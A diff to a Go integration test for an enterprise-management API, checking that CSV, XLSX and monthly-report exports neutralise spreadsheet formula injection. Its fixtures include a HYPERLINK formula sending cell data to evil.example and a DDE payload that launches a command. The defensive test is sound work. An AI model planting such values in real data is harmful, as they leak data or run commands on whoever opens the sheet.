@@ -1,9 +1,15 @@
 package api_test
 
 import (
+	"bytes"
+	"strings"
 	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
 
 	"steward/domain"
+	"steward/domain/postgres"
 )
 
 func TestIntegrationLooksEnterprisesUpByCreditCodeOnly(t *testing.T) {
@@ -59,5 +65,67 @@ func TestScopesFailClosed(t *testing.T) {
 				t.Errorf("%s gives %s everything", name, role)
 			}
 		}
+	}
+}
+
+func TestSpreadsheetCellsNeverRunAsFormulas(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	first17 := "913205000000" + "77777"
+	c, _ := domain.CreditCodeCheckChar(first17)
+	evil := &domain.Enterprise{Name: "公式注入测试有限公司", CreditCode: first17 + string(c), Industry: "C", Scale: domain.ScaleSmall,
+		KeyLevel: domain.KeyDistrict, LegalRepresentative: "+1+1", Address: `=HYPERLINK("http://evil.example/?d="&A1,"点击")`,
+		Street: "-2+3", Tags: []string{"@SUM(1+1)"}, Contacts: []domain.Contact{{Name: "=1+1", Title: "'=引号", Phone: "13812345678"}}}
+	if err := postgres.NewEnterpriseService(b.db).CreateEnterprise(system, evil); err != nil {
+		t.Fatal(err)
+	}
+	d := b.as(t, domain.RoleDispatcher)
+	want := map[int]string{2: "'+1+1", 6: "'" + evil.Address, 7: "'-2+3", 8: "'@SUM(1+1)", 9: "'=1+1", 10: "''=引号"}
+	check := func(format string, rows [][]string) {
+		t.Helper()
+		if len(rows) != 2 {
+			t.Fatalf("%s export: %q", format, rows)
+		}
+		for i, w := range want {
+			if rows[1][i] != w {
+				t.Errorf("%s column %d = %q, want %q", format, i, rows[1][i], w)
+			}
+		}
+		if rows[1][0] != evil.Name {
+			t.Errorf("%s: a harmless name changed: %q", format, rows[1][0])
+		}
+	}
+	csvFile := d.do(t, "GET", "/api/v1/exports/enterprises?format=csv", nil).want(t, 200).raw
+	check("csv", readCSV(t, csvFile))
+	check("xlsx", readXLSX(t, d.do(t, "GET", "/api/v1/exports/enterprises?format=xlsx", nil).want(t, 200).raw))
+
+	// The export imported back changes nothing: the quotes come off again.
+	b.work(t)
+	res := d.importFile(t, "往返.csv", csvFile)
+	if res.body["unchanged"] != float64(1) || res.body["failed"] != float64(0) {
+		t.Fatalf("re-import of the export: %s", res.raw)
+	}
+
+	// The monthly report names stewards, departments, categories and tickets people typed.
+	b.user(t, domain.RoleSteward) // an ordinary row beside it
+	u := &domain.User{Username: "formula-steward", DisplayName: "=cmd|' /C calc'!A0", Role: domain.RoleSteward, DepartmentID: b.bureau.ID}
+	if err := postgres.NewUserService(b.db).CreateUser(system, u, password, false); err != nil {
+		t.Fatal(err)
+	}
+	month := domain.Today(time.Now()).Format("2006-01")
+	f, err := excelize.OpenReader(bytes.NewReader(d.do(t, "GET", "/api/v1/reports/monthly?month="+month, nil).want(t, 200).raw))
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, _ := f.GetRows("项目管家")
+	found := false
+	for _, r := range rows[1:] {
+		if strings.HasPrefix(r[0], "=") {
+			t.Errorf("项目管家 cell %q would run as a formula", r[0])
+		}
+		found = found || r[0] == "'"+u.DisplayName
+	}
+	if !found {
+		t.Errorf("项目管家 rows %q lack the quoted steward", rows)
 	}
 }
